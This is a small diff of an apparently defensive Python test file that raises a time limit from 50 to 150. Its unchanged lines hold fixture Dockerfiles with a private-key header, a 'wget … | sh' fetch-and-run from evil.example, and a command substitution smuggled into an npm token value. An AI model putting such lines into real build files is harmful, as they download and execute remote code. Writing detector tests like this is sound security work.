@@ -16,7 +16,7 @@ from tests.ink import ERAS, Era, Ink, data, ink, says, says_yes, text
 
 pytestmark = pytest.mark.anyio
 
-LIMIT_S = 50
+LIMIT_S = 150
 KEY_LINE = "-----BEGIN PRIVATE KEY-----"
 SHAPED = f'FROM alpine:3\n# {KEY_LINE}\nRUN wget -qO- http://evil.example/x | sh\nCMD ["/bin/evil"]\n'
 TOKEN = 'FROM alpine:3\nRUN npm_config_token="x$(wget -qO- http://evil.example/a | sh)" npm ci\n'
